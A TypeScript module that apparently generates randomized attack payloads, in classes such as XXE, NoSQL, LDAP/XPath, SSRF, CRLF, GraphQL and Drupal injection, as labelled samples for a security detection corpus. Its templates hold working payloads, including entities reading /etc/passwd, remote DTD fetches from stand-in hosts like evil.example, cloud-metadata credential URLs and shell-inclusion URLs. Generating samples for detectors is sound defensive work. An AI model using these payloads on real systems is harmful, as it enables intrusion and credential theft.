// Injections into what a server asks others: XML, document databases, directories, addresses, headers, GraphQL, XPath.

import type { AttackClass } from '@parapet/kinds';
import { log4shell } from './code.ts';
import type { Picker } from './picker.ts';

function host(p: Picker): string {
  return p.pick([`${p.letters(3, 12)}.${p.pick(['com', 'net', 'example', 'io', 'ru'])}`, 'evil.example', `${p.int(1, 220)}.${p.int(0, 255)}.${p.int(0, 255)}.${p.int(1, 254)}`, `${p.hex(12, 24)}.oast.site`]);
}

export function xxe(p: Picker): string {
  const name = p.pick(['xxe', 'x', 'a', 'test', 'ent', 'file', 'remote', 'dtd', 'payload', p.letters(1, 6)]);
  const root = p.pick(['foo', 'root', 'data', 'x', 'r', 'test', 'creds', 'a', 'replace', 'message', '!ANY', 'svg', p.letters(1, 8)]);
  const uri = p.pick(['file:///etc/passwd', 'file:///c:/boot.ini', 'file:///etc/shadow', 'file:///dev/random', 'file:///proc/self/environ', `http://${host(p)}/x.dtd`, `http://${host(p)}/evil.dtd`, 'php://filter/read=convert.base64-encode/resource=/etc/passwd', 'php://filter/convert.base64-encode/resource=index.php', 'expect://id', `ftp://${host(p)}/x`, 'http://169.254.169.254/latest/meta-data/', `jar:http://${host(p)}/a.zip!/b`, 'gopher://127.0.0.1:25/x', 'file:///c:/windows/win.ini', `\\\\${host(p)}\\x`, 'netdoc:/etc/passwd', `https://${host(p)}`, '/etc/passwd', 'http://localhost:8080/']);
  const head = p.pick(['<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-8"?>', '<?xml version="1.0" encoding="ISO-8859-1"?>', '', '<?xml version="1.0" encoding="utf-8" standalone="no"?>', "<?xml version='1.0'?>\n"]);
  const keyword = p.pick(['SYSTEM', 'SYSTEM', 'SYSTEM', 'PUBLIC "x"', 'PUBLIC "-//x//y" ']);
  return p.pick([
    `${head}<!DOCTYPE ${root} [<!ENTITY ${name} ${keyword} "${uri}">]><${root}>&${name};</${root}>`, `${head}<!DOCTYPE ${root} [ <!ELEMENT ${root} ANY > <!ENTITY ${name} ${keyword} "${uri}" >]>\n<${root}>&${name};</${root}>`, `${head}<!DOCTYPE ${root} [<!ENTITY % ${name} ${keyword} "${uri}"> %${name};]><${root}/>`, `${head}<!DOCTYPE ${root} [<!ENTITY % ${name} ${keyword} '${uri}'>%${name};%param1;]>`, `${head}<!DOCTYPE ${root} ${keyword} "${uri}"><${root}>x</${root}>`, `<!ENTITY % ${name} "<!ENTITY &#x25; ${p.letters(1, 5)} ${keyword} '${uri}'>">%${name};`, `<!ENTITY ${name} ${keyword} "${uri}">`, `<${root} xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="${uri}"/></${root}>`, `${head}<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;">]><lolz>&lol2;</lolz>`, `${head}<!DOCTYPE ${root} [<!ENTITY ${name} "${p.letters(2, 10)}">]><${root}>&${name};</${root}>`, `<?xml-stylesheet type="text/xml" href="${uri}"?>`, `<xsl:value-of select="document('${uri}')"/>`, `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform" xmlns:php="http://php.net/xsl"><xsl:value-of select="php:function('system','id')"/></xsl:stylesheet>`, `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><image xlink:href="${p.pick(['expect://id', uri])}"></image></svg>`, `${head}<!DOCTYPE svg [<!ENTITY ${name} ${keyword} "${uri}">]><svg><text>&${name};</text></svg>`, `<soap:Body><foo><![CDATA[<!DOCTYPE doc [<!ENTITY % dtd SYSTEM "${uri}"> %dtd;]><xxx/>]]></foo></soap:Body>`, `${head}\n<!DOCTYPE ${root} [\n<!ENTITY % ${name} SYSTEM "${uri}">\n<!ENTITY % eval "<!ENTITY &#x25; error SYSTEM 'file:///nonexistent/%${name};'>">\n%eval;\n%error;\n]>`, `%${name};%int;%send;`, `<!DOCTYPE ${root}[<!ELEMENT ${root} (#PCDATA)><!ENTITY ${name} ${keyword} "${uri}">`,
  ]);
}

export function nosql(p: Picker): string {
  const operator = p.pick(['$ne', '$gt', '$regex', '$where', '$exists', '$in', '$nin', '$or', '$lt', '$gte', '$not', '$eq', '$expr', '$func', '$and', '$nor', '$type', '$mod', '$all']);
  const field = p.pick(['username', 'password', 'user', 'pass', 'email', 'id', '_id', 'token', 'role', 'login']);
  return p.pick([
    `{"${operator}": ${p.pick(['null', '""', '1', 'true', '-1', '".*"', '"^a"', '[]', '{}'])}}`, `{"${field}": {"${operator}": ${p.pick(['null', '""', '1', '"^adm"', '"foo"'])}}, "password": {"$ne": ""}}`, `[${operator}]=${p.pick(['1', '', '.*', '^a', 'toto', 'null'])}`, `${field}[${operator}]=${p.pick(['1', '', '.*', 'admin', 'null'])}`, `[${operator}]`, `${field}[${operator}]`, `true, $where: '1 == 1'`, `, $where: '1 == 1'`, `$where: '1 == 1'`, `', $where: '1 == 1`, `1, $where: '1 == 1'`, `{ $ne: 1 }`, `' } ], $comment:'successful MongoDB injection'`, `db.injection.insert({success:1});return 1;db.stores.mapReduce(function() { { emit(1,1`, `|| 1==1`, `' && this.password.match(/.*/)//+%00`, `' && this.passwordzz.match(/.*/)//+%00`, `'%20%26%26%20this.password.match(/.*/)//+%00`, `{$gt: ''}`, `[$ne]=1`, `';sleep(${p.int(1, 9)}000);`, `';it=new%20Date();do{pt=new%20Date();}while(pt-it<5000);`, `' || '1'=='1`, `' || 1==1//`, `' || 1==1%00`, `a'; return true; var x='`, `0;var date=new Date(); do{curDate = new Date();}while(curDate-date<10000)`, `{"$where": "this.${field} == '${p.letters(1, 4)}' || true"}`, `{"$where": "sleep(${p.int(1, 9)}000)"}`, `{"${operator}":[{},{"a":"a"}]}`, `{"$regex":"^${p.letters(1, 3)}","$options":"i"}`, `1'; return this.${field} != null; var z='`, `";return(true);var xyz='a`, `this.${field}.startsWith('a')`, `{"selector":{"_id":{"$gt":null}}}`, `{"$lookup":{"from":"users","as":"x","pipeline":[]}}`, `db.${p.pick(['users', 'admin', 'accounts'])}.${p.pick(['find()', 'drop()', 'remove({})'])}`, `'; db.getCollectionNames(); var x='`,
  ]);
}

export function ldap(p: Picker): string {
  const attribute = p.pick(['uid', 'cn', 'mail', 'userPassword', 'objectClass', 'sn', 'givenName', 'member', 'sAMAccountName', 'password', 'memberOf', 'description']);
  const name = p.pick(['*', 'admin', 'user', p.letters(2, 8), '']);
  return p.pick([
    `*)(${attribute}=*`, `*)(${attribute}=*))(|(${attribute}=*`, `${name})(|(${attribute}=*`, `${name})(&(${attribute}=*)`, `*)(|(${attribute}=*))`, `*))%00`, `)(cn=))\u0000`, `${name}*)((|${attribute}=*)`, `*(|(${attribute}=*))`, `*()|%26'`, `*()|&'`, `${name})(&)`, `${name})(!(&(|`, `(&(${attribute}=${name})(${p.pick(['userPassword', 'objectClass'])}=*))`, `*)(&`, `${name})(${attribute}=${p.letters(1, 4)}*`, `(|(${attribute}=*)(${attribute}=*))`, `admin*)((|userpassword=*)`, `x' or name()='username' or 'x'='y`, `*)(uid=*))(|(uid=*`, `%2a%29%28${attribute}%3d%2a`, `\\2a)(${attribute}=*`, `!(${attribute}=*)`, `${name}))(|(${attribute}=${name}`, `(&(objectClass=user)(|(cn=*)(sn=*)))`, `*)(objectClass=*`, `foo*)(|(objectclass=*`, `(${attribute}=*)`, `' or '1'='1`, `')] | //user/*[contains(*,'`, `' or count(/*)=1 or 'a'='b`, `'] | //* | //*['`, `' and string-length(name(/*[1]))=${p.int(1, 9)} and '1'='1`, `' or substring(//user[1]/password,1,1)='a`, `count(//*)`, `//user/${attribute}/text()`, `x'] or ancestor::* or ['`, `' or contains(${attribute},'adm') or '`, `doc('http://${host(p)}/')`, `for $x in //user return $x`,
  ]);
}

export function address(p: Picker): string {
  const inner = p.pick(['127.0.0.1', 'localhost', '169.254.169.254', '0.0.0.0', '[::1]', '[::]', '2130706433', '0x7f000001', '0177.0.0.1', '127.1', '0', '10.0.0.1', '192.168.0.1', '192.168.1.1:8080', '172.16.0.1', '[::ffff:127.0.0.1]', '127.0.0.1.nip.io', 'localtest.me', 'metadata.google.internal', '100.100.100.200', '127.0.0.1:22', 'localhost:6379', '0x7f.1', '017700000001', '①②⑦.⓪.⓪.①', '[0:0:0:0:0:ffff:127.0.0.1]', 'spoofed.burpcollaborator.net', '127.127.127.127', '3232235521', 'kubernetes.default.svc', 'instance-data', '[fd00:ec2::254]', 'localhost:11211', '127.0.0.1:9200', 'localhost:3306', '0251.0376.0251.0376', '[::1]:80', '169.254.170.2', '192.0.0.192']);
  const place = p.pick(['', '/', '/latest/meta-data/', '/latest/meta-data/iam/security-credentials/', '/latest/user-data', '/computeMetadata/v1/instance/service-accounts/default/token', '/metadata/instance?api-version=2021-02-01', '/admin', '/server-status', '/_cat/indices', '/v1/agent/self', '/opc/v1/instance/', '/etc/passwd', '/actuator/env', '/console', '/latest/api/token', '/phpmyadmin']);
  return p.pick([
    `http://${inner}${place}`, `http://${inner}${place}`, `https://${inner}${place}`, `http://${p.letters(3, 8)}@${inner}${place}`, `http://${p.letters(3, 8)}.com@${inner}${place}`, `http://${inner}#${p.letters(3, 8)}.com`, `gopher://${inner}:${p.pick([6379, 25, 11211, 3306, 9000])}/_${p.many(3, 10, '', () => `%${p.hex(2, 2)}`)}`, `gopher://${inner}:6379/_SET%20x%20y`, `dict://${inner}:11211/stats`, `ftp://${inner}/x`, `tftp://${host(p)}:69/x`, `ldap://${inner}:389/x`, `file:///etc/passwd`, `sftp://${host(p)}:22/`, `http://${host(p)}/${p.pick(['shell', 'cmd', 'c99', 'r57', 'evil', 'x', 'id', 'rfi', 'test'])}.${p.pick(['txt', 'php', 'txt?', 'php?', 'gif?', 'txt%00', 'txt??', 'jpg?'])}`, `http://${host(p)}/${p.letters(2, 6)}.txt?cmd=${p.pick(['id', 'ls', 'whoami'])}`, `https://${host(p)}/${p.letters(2, 6)}.php?`, `ftp://${p.letters(2, 5)}:${p.letters(2, 5)}@${host(p)}/shell.php`, `\\\\${host(p)}\\share\\x.php`, `http://${inner}:${p.pick([22, 80, 443, 8080, 6379, 9200, 3306])}${place}`, `//${inner}${place}`, `http:${inner}`, `http:\\\\${inner}`, `http:/\\${inner}`, `netdoc://${inner}`, `http://${inner}%2523@${host(p)}/`, `HTTP://${inner}${place}`, `http://${p.int(1, 220)}.${p.int(0, 255)}.${p.int(0, 255)}.${p.int(1, 254)}/${p.letters(1, 6)}.${p.pick(['txt', 'php', 'sh', 'pl'])}?`, `url=http://${inner}${place}`, `http://[${p.pick(['::ffff:7f00:1', 'fe80::1', '::1%25lo'])}]${place}`, `javascript://${host(p)}/%0aalert(1)`, `//${host(p)}/%2f..`, `/\\${host(p)}`, `https:${host(p)}`, `////${host(p)}//`, `/%09/${host(p)}`, `http://${host(p)}%2f@${p.letters(3, 8)}.com/`,
  ]);
}

export function headerLines(p: Picker): string {
  const break_ = p.pick(['%0d%0a', '\r\n', '\n', '%0a', '%0D%0A', '\\r\\n', '%E5%98%8A%E5%98%8D', '嘊嘍', '%250d%250a', '%u000a', '\r', '%0d', '%23%0d%0a', '%3f%0d%0a', '\r\n\r\n', '%5cr%5cn', '\u2028']);
  const header = p.pick([`Set-Cookie:${p.letters(2, 8)}=${p.letters(2, 8)}`, `Set-Cookie: crlf=injection`, `Location: http://${host(p)}/`, `Location:%20http://${host(p)}`, `X-${p.letters(2, 8)}: ${p.letters(2, 8)}`, 'Content-Length: 0', 'Content-Type: text/html', `HTTP/1.1 200 OK`, 'X-XSS-Protection:0', `Host: ${host(p)}`, `Refresh: 0;url=http://${host(p)}`, `bcc: ${p.letters(2, 8)}@${host(p)}`, `Bcc:${p.letters(2, 8)}@${host(p)}`, `cc: ${p.letters(2, 8)}@${host(p)}`, `To: ${p.letters(2, 8)}@${host(p)}`, `Subject: ${p.letters(2, 8)}`, `GET /${p.letters(1, 6)} HTTP/1.1`, `Access-Control-Allow-Origin: *`, 'Transfer-Encoding: chunked', `Last-Modified: Mon, 27 Oct 2060 14:50:18 GMT`, `MAIL FROM:<${p.letters(2, 6)}@${host(p)}>`, `RCPT TO: ${p.letters(2, 6)}@${host(p)}`, 'DATA', 'QUIT', `Link: <http://${host(p)}/x.css>`]);
  return `${p.pick(['', '', p.letters(1, 10), '/', `${p.letters(2, 8)}@example.com`, '?', '/%2f%2e%2e', '1', 'en', `/${p.letters(2, 6)}`])}${break_}${header}${p.maybe(0.35, `${break_}${break_}${p.pick(['<script>alert(1)</script>', '<html>x</html>', p.letters(2, 12), '<svg onload=alert(1)>'])}`)}${p.maybe(0.2, break_)}`;
}

export function graphql(p: Picker): string {
  return p.pick([
    '{__schema{types{name,fields{name}}}}', 'query IntrospectionQuery{__schema{queryType{name}mutationType{name}subscriptionType{name}types{...FullType}directives{name description locations args{...InputValue}}}}', '{__type(name:"User"){name fields{name type{name}}}}', 'fragment FullType on __Type {kind name description fields(includeDeprecated: true)', `query{${p.many(8, 20, '', (index) => `a${index}:user(id:${index}){password}`)}}`, `mutation{createUser(name:"x' or 1=1--"){id}}`, `{user(id:"1' or '1'='1"){name}}`, '{__schema{queryType{fields{name}}}}', 'query{systemDiagnostics(username:"admin",cmd:"id")}', '{__typename}', 'query { __schema { directives { name } } }',
  ]);
}

/** Attacks on Drupal itself: render arrays in names, and what follows them. */
export function drupal(p: Picker): string {
  const property = p.pick(['#post_render', '#pre_render', '#lazy_builder', '#markup', '#access_callback', '#submit', '#validate', '#type', '#suffix', '#prefix', '#children', '#value_callback', '#element_validate', '#process', '#after_build', '#theme_wrappers', '#create_placeholder']);
  return p.pick([`mail[${property}][]`, `mail[a][${property}][]`, `name[${property}]`, `account/mail/%23value`, `name[${property}][0]`, `timezone[a][${property}][]`, `name[%23post_render][]`, `mail[%23markup]`, `[%2523post_render][0]`, `field[0][${property}][]`, `name[0;insert into users values(1)#]`, `name[0 ;update users set name='admin' where uid='1';;#  ]`, `element_parents=account/mail/%23value`, `q[%2523${property.slice(1)}][]`, `pass[${property}]`]);
}

export const LOOKUPS: readonly (readonly [kind: AttackClass, count: number, make: (p: Picker) => string])[] = [
  ['xxe', 1200, xxe],
  ['nosql', 900, nosql],
  ['ldap', 600, ldap],
  ['ssrf', 1500, address],
  ['crlf', 900, headerLines],
  ['other', 150, graphql],
  ['java', 1800, log4shell],
];
